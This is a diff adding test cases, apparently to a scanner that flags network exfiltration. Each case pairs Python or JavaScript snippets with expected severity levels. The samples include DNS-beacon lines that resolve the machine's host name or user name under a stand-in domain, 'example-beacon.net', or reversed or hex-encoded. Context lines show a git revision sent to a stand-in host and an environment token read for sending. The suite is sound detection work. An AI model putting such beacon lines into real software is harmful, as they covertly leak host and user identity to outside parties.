@@ -110,6 +110,33 @@ CASES = [
      "const rev = execSync('git rev-parse HEAD').toString();\n"
      "fetch(`https://b.example.net/${rev}`);\n",
      {3: "high"}),
+    # the machine's short name looked up (paramiko's LazyFqdn: a piece of its own host name, through a class attribute
+    # and a helper) stays on the resolver; the same piece under another domain, reversed or encoded is a DNS beacon
+    ("own-short-host-name-lookup-low-built-name-high", HOST, "m.py",
+     "import socket, getpass\n"
+     "def _lookup(hostname):\n"
+     "    return socket.getaddrinfo(hostname, None, socket.AF_INET, 0, 0, socket.AI_CANONNAME)\n"
+     "class Fqdn:\n"
+     "    def __init__(self, host):\n"
+     "        self.host = host\n"
+     "    def __str__(self):\n"
+     "        return str(_lookup(self.host))\n"
+     "short = socket.gethostname().split('.')[0]\n"
+     "name = str(Fqdn(short))\n"
+     "socket.gethostbyname(socket.gethostname().lower()[:63])\n"
+     "socket.gethostbyname(short + '.c.example-beacon.net')\n"
+     "socket.gethostbyname(socket.gethostname()[::-1])\n"
+     "socket.gethostbyname(socket.gethostname().encode().hex())\n"
+     "socket.gethostbyname(getpass.getuser().split('.')[0])\n",
+     {3: "low", 11: "low", 12: "high", 13: "high", 14: "high", 15: "high"}),
+    ("js-own-short-host-name-lookup-medium-built-name-high", HOST, "m.js",
+     "const os = require('os'); const dns = require('dns');\n"
+     "const short = os.hostname().split('.')[0];\n"
+     "dns.lookup(short, () => {});\n"
+     "dns.lookup(os.hostname().toLowerCase(), () => {});\n"
+     "dns.lookup(short + '.c.example-beacon.net', () => {});\n"
+     "dns.lookup(os.hostname().split('.')[1] + os.userInfo().username, () => {});\n",
+     {3: "medium", 4: "medium", 5: "high", 6: "high"}),
     ("telegram-token-own-api-low-elsewhere-high", "secret-env-var-sent-over-network", "m.py",
      "import os, requests\n"
      "t = os.environ['TELEGRAM_BOT_TOKEN']\n"
